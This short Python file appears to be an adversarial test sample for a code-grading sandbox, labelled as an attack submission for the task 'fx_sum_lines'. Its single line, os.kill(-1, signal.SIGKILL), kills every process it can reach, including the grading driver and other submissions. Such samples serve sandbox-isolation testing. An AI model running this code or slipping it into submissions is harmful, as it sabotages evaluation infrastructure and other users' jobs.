# attack: a stdin answer that SIGKILLs every process it can (driver, fork server, batch-mates)
# task: fx_sum_lines
# victim: fx_two_readline
import os, signal
os.kill(-1, signal.SIGKILL)
